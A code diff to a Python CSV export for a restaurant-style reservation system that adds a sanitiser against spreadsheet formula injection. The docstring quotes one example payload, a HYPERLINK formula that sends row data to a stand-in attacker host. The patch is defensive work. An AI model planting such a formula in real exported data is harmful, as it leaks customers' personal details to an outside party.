@@ -118,7 +118,18 @@ def to_csv(reservations: list[Reservation], rules: ShopRules) -> str:
         created = datetime.fromtimestamp(r.created_at_ms / 1000, rules.tz).strftime("%Y-%m-%d %H:%M")
         status = "キャンセル" if r.status == ReservationStatus.CANCELLED else "確定"
         source = "電話・店頭" if r.source == "console" else "LINE"
-        writer.writerow(
-            (r.number, r.day, r.start, r.party_size, r.customer_name, r.note, status, source, r.user_id or "", created)
-        )
+        row = (r.number, r.day, r.start, r.party_size, r.customer_name, r.note, status, source, r.user_id, created)
+        writer.writerow([inert(cell if cell is not None else "") for cell in row])
     return out.getvalue()
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(cell: object) -> object:
+    """A text cell a spreadsheet will not run: names and notes come from LINE users, and a cell starting
+    with "=", "+", "-" or "@" is a formula to Excel (`=HYPERLINK("http://evil.example/?"&A2, ...)` would
+    send the row away). A leading apostrophe makes it text; numbers stay numbers."""
+    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
+        return "'" + cell
+    return cell
